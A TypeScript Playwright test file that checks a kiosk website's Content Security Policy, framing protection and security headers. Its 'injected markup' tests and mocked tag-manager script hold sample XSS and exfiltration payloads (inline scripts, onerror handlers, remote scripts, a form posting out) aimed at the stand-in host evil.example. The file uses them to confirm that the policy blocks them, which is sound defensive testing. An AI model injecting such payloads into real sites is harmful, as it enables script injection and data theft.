import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { openPage, untilQuiet, visit } from "../support/browser";
import { previewPath, writeDraft } from "../support/drafts";
import { intercept } from "../support/intercept";
import { ownStack } from "../support/ownStack";
import { hero } from "../support/publish";
import { rawGet } from "../support/rawRequest";
import { type RunningServer, startSite } from "../support/servers";

const { bffUrl, siteUrl } = ownStack();

interface Violation {
  directive: string;
  blocked: string;
}

/** Opens a page that records the violations of its policy, in all frames with our documents. */
async function open(options: Parameters<typeof openPage>[0] = {}): Promise<{ page: Page; violations: () => Promise<Violation[]> }> {
  const page = await openPage(options);
  await page.addInitScript(() => {
    const found = Object.assign(window, { violations: [] as Violation[] }).violations;
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      found.push({ directive: effectiveDirective, blocked: blockedURI }),
    );
  });
  return { page, violations: () => page.evaluate(() => (window as unknown as { violations: Violation[] }).violations) };
}

const policyOf = async (path: string, origin = siteUrl, headers: Record<string, string> = {}) =>
  String((await rawGet(origin, path, headers)).headers["content-security-policy"]);

// openPage fails a test whose page sends requests to another origin.
describe("the policy blocks nothing that a page needs, and all requests go to the site", () => {
  it.each([
    "/",
    "/fr-ca/",
    "/how-it-works/",
    "/fr-ca/guides/spare-key-checklist/",
    "/products/key-copy-kiosk/",
    "/frequently-asked-questions/",
    "/products/locksmith-jobs-signup/",
    "/key-gallery/",
    "/key-services/",
    "/key-services/il/springfield/",
    "/no-such-page/",
    "/slice-simulator",
  ])("on %s", async (path) => {
    const { page, violations } = await open({ expectedErrors: [/status of 404/] });
    await page.goto(path);
    await untilQuiet(page);
    // Pictures and islands further down load when they come into view.
    await page.mouse.wheel(0, 20_000);
    await untilQuiet(page);
    expect(await violations()).toEqual([]);
  });

  it("on a kiosk's page", async () => {
    const { page, violations } = await open();
    await page.goto("/key-services/il/springfield/");
    const kiosk = await page.locator("main li a[href*='/locksmith-key-copy-duplication-']").first().getAttribute("href");
    await page.goto(kiosk!);
    await untilQuiet(page);
    expect(await violations()).toEqual([]);
  });

  it("in a draft", async () => {
    await writeDraft("policy", { id: "Zpolicy1en", uid: "policy", data: { slices: [hero("A draft")] } });
    const { page, violations } = await open({ expectedErrors: [/status of 404/] });
    await page.goto(previewPath("policy", "Zpolicy1en"));
    await page.getByRole("heading", { level: 1, name: "A draft" }).waitFor();
    await untilQuiet(page);
    expect(await violations()).toEqual([]);
    const missing = await page.goto("/no-such-page/");
    expect([missing!.status(), missing!.headers()["content-security-policy"]]).toEqual([
      404,
      expect.stringContaining("frame-ancestors 'self' https://prismic.io"),
    ]);
  });

  it("in the sandbox, which has another policy", async () => {
    const { page, violations } = await open();
    const introspected = page.waitForResponse((response) => response.request().method() === "POST");
    await page.goto("/graphql", { waitUntil: "commit" });
    await introspected;
    await page.getByRole("button", { name: /^Execute query/ }).waitFor();
    expect(await violations()).toEqual([]);
    expect(await policyOf("/graphql", siteUrl, { accept: "text/html" })).toContain("default-src 'none'");
  });

  it("when a video is played, which sends requests to its provider only then", async () => {
    const { page, violations } = await open({ expectedErrors: [/^request: https:\/\/www\.youtube-nocookie\.com\/embed\//] });
    const asked: string[] = [];
    await intercept(page, "https://www.youtube-nocookie.com/**", (route) => {
      asked.push(new URL(route.request().url()).pathname);
      return route.fulfill({ contentType: "text/html", body: "<!doctype html><h1>It plays</h1>" });
    });
    await visit(page, "/how-it-works/");
    const frame = page.locator("iframe").first();
    await frame.scrollIntoViewIfNeeded();
    await untilQuiet(page);
    expect(asked).toEqual([]);
    await frame.contentFrame().getByRole("link").click();
    await frame.contentFrame().getByRole("heading", { name: "It plays" }).waitFor();
    expect(asked).toEqual(["/embed/kW4yC0pyK3y"]);
    expect(await violations()).toEqual([]);
  });
});

describe("with a tag manager", () => {
  let site: RunningServer;
  beforeAll(async () => {
    site = await startSite({ bffUrl, env: { GTM_ID: "GTM-TEST123" } });
  });
  afterAll(() => site?.stop());

  it("its script and its measurements are allowed, those of others are not", async () => {
    const { page, violations } = await open({
      siteUrl: site.url,
      expectedErrors: [/^request: https:\/\/(www\.googletagmanager|region1\.google-analytics)\.com\//, /evil\.example/],
    });
    const measured: string[] = [];
    await intercept(page, "https://*.google-analytics.com/**", (route) => {
      measured.push(route.request().url());
      return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
    });
    const body =
      `fetch("https://region1.google-analytics.com/g/collect", { method: "POST" }); ` +
      `fetch("https://evil.example/collect").catch(() => {})`;
    await intercept(page, "https://www.googletagmanager.com/**", (route) => route.fulfill({ contentType: "text/javascript", body }));
    await page.goto(`${site.url}/how-it-works/`);
    await page.getByRole("button", { name: "Accept all" }).click();
    await expect.poll(() => measured.length).toBe(1);
    await expect.poll(violations).toEqual([{ directive: "connect-src", blocked: "https://evil.example/collect" }]);
  });

  it("a draft may load neither", async () => {
    await writeDraft("policy", { id: "Zpolicy1en", uid: "policy", data: { slices: [hero("A draft")] } });
    const { page } = await open({ siteUrl: site.url });
    const answer = await page.goto(`${site.url}${previewPath("policy", "Zpolicy1en")}`);
    expect(answer!.headers()["content-security-policy"]).not.toContain("google");
    await untilQuiet(page);
    expect(await page.locator("#snackbars button").count()).toBe(0);
  });
});

describe("injected markup", () => {
  const attacks: Record<string, [attack: string, violation: Violation]> = {
    "a handler in its markup": [
      `<img src="/nothing.png" onerror="window.isHacked = true">`,
      { directive: "script-src-attr", blocked: "inline" },
    ],
    "a script in its markup": [`<script>window.isHacked = true</script>`, { directive: "script-src-elem", blocked: "inline" }],
    "a script from elsewhere": [
      `<script src="https://evil.example/a.js"></script>`,
      { directive: "script-src-elem", blocked: "https://evil.example/a.js" },
    ],
    "a picture that counts": [
      `<img src="https://evil.example/pixel.png">`,
      { directive: "img-src", blocked: "https://evil.example/pixel.png" },
    ],
    "a frame from elsewhere": [
      `<iframe src="https://evil.example/"></iframe>`,
      { directive: "frame-src", blocked: "https://evil.example" },
    ],
    "a plugin": [`<object data="https://evil.example/a.swf"></object>`, { directive: "object-src", blocked: "https://evil.example" }],
    "another base": [`<base href="https://evil.example/">`, { directive: "base-uri", blocked: "https://evil.example/" }],
    "a style sheet from elsewhere": [
      `<link rel="stylesheet" href="https://evil.example/a.css">`,
      { directive: "style-src-elem", blocked: "https://evil.example/a.css" },
    ],
  };

  it.each(Object.entries(attacks))("is blocked: %s", async (_, [markup, violation]) => {
    const { page, violations } = await open({ expectedErrors: [/Content Security Policy|evil\.example|status of 404/] });
    await page.goto("/how-it-works/");
    await page.evaluate((html) => document.body.append(document.createRange().createContextualFragment(html)), markup);
    await expect.poll(violations).toEqual([violation]);
    expect(await page.evaluate(() => "isHacked" in window)).toBe(false);
  });

  it("cannot send a form elsewhere", async () => {
    const { page, violations } = await open({ expectedErrors: [/Content Security Policy|evil\.example/] });
    await page.goto("/how-it-works/");
    await page.evaluate(() => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
      document.body.append(form);
      form.submit();
    });
    await expect.poll(violations).toEqual([{ directive: "form-action", blocked: "https://evil.example/" }]);
  });
});

describe("in a frame on another site", () => {
  it.each(["/", "/how-it-works/", "/key-services/"])("%s is not shown", async (path) => {
    const stranger = createServer((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<!doctype html><link rel="icon" href="data:,"><iframe src="${siteUrl}${path}"></iframe>`);
    }).listen(0, "127.0.0.1");
    await once(stranger, "listening");
    onTestFinished(() => void stranger.close());
    const origin = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
    const { page } = await open({ expectedErrors: [/frame-ancestors|Framing|^request: http:\/\/127\.0\.0\.1:\d+\/$/] });
    await page.goto(origin);
    await untilQuiet(page);
    expect(await page.locator("iframe").contentFrame().getByRole("main").count()).toBe(0);
  });
});

describe("the other headers", () => {
  it("are sent with pages, status pages and files; HSTS is sent if the site uses https", async () => {
    for (const path of ["/", "/no-such-page/", "/robots.txt", "/assets/mark.svg", "/preview"]) {
      // With a browser's accept header: a failed page is then replaced, and its response keeps the headers.
      const { headers } = await rawGet(siteUrl, path, { accept: "text/html" });
      expect(headers, path).toMatchObject({ "x-content-type-options": "nosniff", "referrer-policy": "strict-origin-when-cross-origin" });
      expect(headers["permissions-policy"], path).toContain("geolocation=(self)");
      expect(headers["content-security-policy"], path).toContain("object-src 'none'");
      expect(headers["strict-transport-security"], path).toBeUndefined();
    }
    const site = await startSite({ bffUrl, env: { SITE_URL: "https://keys.example" } });
    onTestFinished(site.stop);
    expect((await rawGet(site.url, "/")).headers["strict-transport-security"]).toBe("max-age=31536000");
  });
});
